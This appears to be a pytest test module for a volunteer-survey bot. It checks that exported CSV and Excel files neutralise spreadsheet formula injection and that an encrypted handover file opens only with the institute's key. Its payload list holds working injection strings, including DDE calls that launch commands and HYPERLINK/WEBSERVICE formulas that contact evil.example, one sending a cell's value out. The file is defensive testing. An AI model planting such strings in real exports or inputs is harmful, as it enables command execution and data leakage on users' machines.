"""T20. What people type stays text in every file that leaves the house, and only the institute opens what is for it."""

import csv
import io
import json
import random
from collections.abc import Iterable
from datetime import date
from hashlib import sha256
from pathlib import Path

import openpyxl
import pyrage
import pytest

from bot.domain.consent import ConsentFor
from bot.domain.handover import Handover
from bot.domain.ids import FormId
from bot.domain.submission import StoredResponse, SubmittedResponse
from bot.domain.survey import Survey
from bot.domain.volunteering import ContactDetails, Registered, Way
from bot.reports import csv_export, handover_file
from bot.runtime import Runtime
from bot.services import packing, volunteering
from storage.database import Database
from tests.reliability.seeds import seed
from tests.reliability.sizes import size
from tests.services.handover_scene import (
    CALL_WORDING,
    INSTITUTE,
    folder_of,
    handed_over,
    open_survey,
    runtime,
)
from tests.services.survey_scene import FORM, Clock

BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    '"=',
    " =",
    "\u00a0=",
    ";=",
    ",=",
)
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"Klick")',
    'WEBSERVICE("http://evil.example")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML("http://evil.example","//a")',
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "4980319123456",
    "</t></is></c><c><f>1+1</f></c>",
    "_x003D_1+1",
)


def injections() -> list[str]:
    """Strings that some spreadsheet somewhere takes for a formula; the same ones for the same seed."""
    everything = [beginning + payload for beginning in BEGINNINGS for payload in PAYLOADS]
    chosen = random.Random(seed())
    chosen.shuffle(everything)
    wanted = size("T20_STRINGS")
    while len(everything) < wanted:
        everything.append(chosen.choice(BEGINNINGS) + chosen.choice(PAYLOADS) + chosen.choice(PAYLOADS))
    return everything[:wanted]


def cells(workbook: bytes) -> list[list[object]]:
    """The values of all cells; fails on a formula and on a cell that a spreadsheet could take for one when edited."""
    found: list[list[object]] = []
    for row in openpyxl.load_workbook(io.BytesIO(workbook)).active.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n"), f"{cell.coordinate} is {cell.data_type}"
            assert cell.data_type == "s" or cell.value is None
            assert cell.quotePrefix
            assert cell.number_format == "@"
        found.append([cell.value or "" for cell in row])
    return found


def plain(strings: Iterable[str]) -> list[str]:
    """Those without signs that XML cannot hold: they come back letter by letter."""
    return [text for text in strings if text.isprintable() and not text.startswith("_x") and "_x003D_" not in text]


def test_no_cell_of_the_institutes_workbook_is_a_formula() -> None:
    strings = injections()

    found = cells(handover_file.contacts_xlsx([text] * len(handover_file.COLUMNS) for text in strings))

    assert len(found) == len(strings) + 1
    seen = {value for row in found[1:] for value in row}
    assert set(plain(strings)) <= seen


def test_no_cell_of_the_answers_is_a_formula() -> None:
    strings = injections()
    bodies = [SubmittedResponse(FormId(FORM.form_id), {"b3": text}, text, text, text) for text in strings]
    responses = [StoredResponse(f"{at:032x}", date(2026, 7, 3), body) for at, body in enumerate(bodies)]
    content = csv_export.answers_csv([FORM], responses).decode()
    lines = list(csv.reader(io.StringIO(content, newline="")))
    sheet = openpyxl.Workbook().active

    for line in lines:
        sheet.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", value) for value in line])

    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    for text, line in zip(strings, lines[1:], strict=True):
        assert [csv_export.unguarded(value) for value in line[2:]] == [text] * 4
        assert not any(
            value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")) for value in line[2:]
        )


@pytest.fixture
def rt(database: Database, clock: Clock, tmp_path: Path) -> Runtime:
    return runtime(database, clock, tmp_path)


@pytest.fixture
def clock() -> Clock:
    return Clock()


async def hostile_volunteers(rt: Runtime) -> tuple[Survey, Handover]:
    """Everybody's name, number and language is an injection; all are handed over."""
    survey = await open_survey(rt)
    for number, text in enumerate(injections()):
        details = ContactDetails(text, f"{text}{number}", (), text, "bau")
        consents = {ConsentFor.CONTACT_DETAILS: CALL_WORDING, ConsentFor.SERVICE_AREA: CALL_WORDING}
        entered = await rt.run(
            volunteering.register,
            survey,
            details,
            way=Way.PAPER,
            marker=None,
            consents=consents,
            chat=None,
            language="de",
        )
        assert isinstance(entered, Registered)
    return survey, await handed_over(rt, survey)


async def test_only_the_institute_opens_what_is_handed_over_and_finds_text_alone(rt: Runtime) -> None:
    _, written = await hostile_volunteers(rt)
    sealed = (folder_of(rt) / written.file_name).read_bytes()
    manifest = json.loads((folder_of(rt) / handover_file.manifest_name(written.file_name)).read_bytes())

    assert sha256(sealed).hexdigest() == manifest["sha256"] == written.sha256
    found = cells(pyrage.decrypt(sealed, [INSTITUTE]))
    assert len(found) - 1 == manifest["rows"] == size("T20_STRINGS") + 1
    assert set(plain(injections())) <= {str(row[1]) for row in found}
    async with rt.database.read() as tx:
        assert [row[0] for row in found].count(packing.canary(tx, written)) == 1
    for _ in range(20):
        with pytest.raises(pyrage.DecryptError):
            pyrage.decrypt(sealed, [pyrage.x25519.Identity.generate()])


async def test_a_changed_byte_is_noticed_wherever_it_is(rt: Runtime) -> None:
    _, written = await hostile_volunteers(rt)
    sealed = (folder_of(rt) / written.file_name).read_bytes()

    for place in random.Random(seed()).sample(range(len(sealed)), size("T20_STRINGS")):
        changed = bytearray(sealed)
        changed[place] ^= 1 << (place % 8)
        assert sha256(changed).hexdigest() != written.sha256
        with pytest.raises(pyrage.DecryptError):
            pyrage.decrypt(bytes(changed), [INSTITUTE])
